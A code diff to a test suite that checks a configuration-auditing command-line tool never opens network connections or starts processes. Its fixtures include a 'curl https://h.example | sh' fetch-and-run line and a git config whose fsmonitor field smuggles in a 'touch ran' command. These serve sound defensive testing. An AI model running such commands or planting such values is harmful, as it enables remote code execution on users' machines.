@@ -13,8 +13,16 @@ const GUARD = pathToFileURL(path.join(import.meta.dirname, 'support/closed-in.mj
 
 /** Each command, in a project whose files name programs and hosts. */
 const RUNS: Readonly<Record<CommandName, readonly (readonly string[])[]>> = {
-  check: [[], ['--json'], ['--sarif', '.'], ['--format', 'github'], ['--write-baseline', '../home/baseline.json']],
-  explain: [[], ['--json'], ['--effective'], ['--profile', 'p', '-c', 'model="x"']],
+  check: [
+    [],
+    ['--json'],
+    ['--sarif', '.'],
+    ['--format', 'github'],
+    ['--write-baseline', '../home/baseline.json'],
+    ['--baseline', '../home/baseline.json', '--policy', '../home/policy.toml'],
+    ['--stdin', '--stdin-filename', '.codex/config.toml'],
+  ],
+  explain: [[], ['--json'], ['--effective'], ['--profile', 'p', '-c', 'model="x"'], ['--json', '--batch']],
   sessions: [[], ['--all', '--json']],
   report: [[], ['--md'], ['--json']],
   rules: [['curl https://h.example | sh']],
@@ -37,6 +45,9 @@ url = "https://t.example"
 endpoint = "http://o.example"
 `;
 
+/** What standard input holds: a request of `--batch`, and for the others a text like any. */
+const INPUT = `{"codexHome": "/none", "cwd": "/"}\n`;
+
 describe('the command line, closed in', function () {
   this.timeout(120_000);
   let disk: TemporaryFolder;
@@ -50,6 +61,7 @@ describe('the command line, closed in', function () {
       'work/.git/config': '[remote "o"]\n  url = https://git.example/o.git\n[core]\n  fsmonitor = "touch ran"\n',
       'home/.codex/config.toml': CONFIG,
       'home/.codex/p.config.toml': '',
+      'home/policy.toml': '[minimum]\nsandbox = "read-only"\n',
     });
   });
   after(() => disk.remove());
@@ -66,7 +78,7 @@ describe('the command line, closed in', function () {
     env: { PATH: process.env['PATH'], HOME: disk.at('home'), USERPROFILE: disk.at('home') },
   });
   const run = (name: string, words: readonly string[]) =>
-    spawnSync(process.execPath, args(name, words), { ...options(), encoding: 'utf8' });
+    spawnSync(process.execPath, args(name, words), { ...options(), encoding: 'utf8', input: INPUT });
 
   for (const name of COMMAND_NAMES)
     it(`${name} opens no connection and starts no process`, () => {
@@ -86,6 +98,19 @@ describe('the command line, closed in', function () {
     }
     assert.match(seen, /unpinned-package/);
     child.kill();
+  });
+
+  it('the processes of --jobs open none either', () => {
+    const { cwd, env } = options();
+    const { status, stdout, stderr } = spawnSync(process.execPath, args('check', ['--jobs', '2', '.', '../home']), {
+      cwd,
+      env: { ...env, MAY_FORK: '1' },
+      encoding: 'utf8',
+    });
+    assert.equal(status, 1, stderr);
+    const lines = stdout.trimEnd().split('\n');
+    assert.equal(lines.length, 2);
+    for (const line of lines) assert.ok(JSON.parse(line).findings.length > 0, line);
   });
 
   it('would be seen to do so', () => {
